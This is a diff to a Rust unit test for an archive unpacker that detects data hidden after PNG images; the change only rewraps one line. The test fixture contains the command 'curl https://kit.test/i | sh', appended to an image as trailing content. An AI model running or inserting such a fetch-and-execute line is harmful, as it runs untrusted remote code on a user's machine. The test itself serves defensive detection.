@@ -60,7 +60,8 @@ fn what_follows_a_picture_is_a_file_and_an_archive_there_is_opened() {
     let script = [png(), b"curl https://kit.test/i | sh\n".to_vec()].concat();
     let zip = [png(), Zip::new().file("x", b"X").finish()].concat();
     let padded = [png(), vec![0; 64]].concat();
-    let unpacked = untar(Tar::new().file("a.png", &script).file("b.png", &zip).file("c.png", &padded).file("d.png", &png()));
+    let unpacked =
+        untar(Tar::new().file("a.png", &script).file("b.png", &zip).file("c.png", &padded).file("d.png", &png()));
     let expected = ["a.png", "a.png!/trailing", "b.png", "b.png!/trailing", "b.png!/trailing!/x", "c.png", "d.png"];
     assert_eq!((paths(&unpacked), gaps(&unpacked)), (expected.to_vec(), vec![]));
     assert_eq!(content(&unpacked, "a.png!/trailing"), b"curl https://kit.test/i | sh\n");
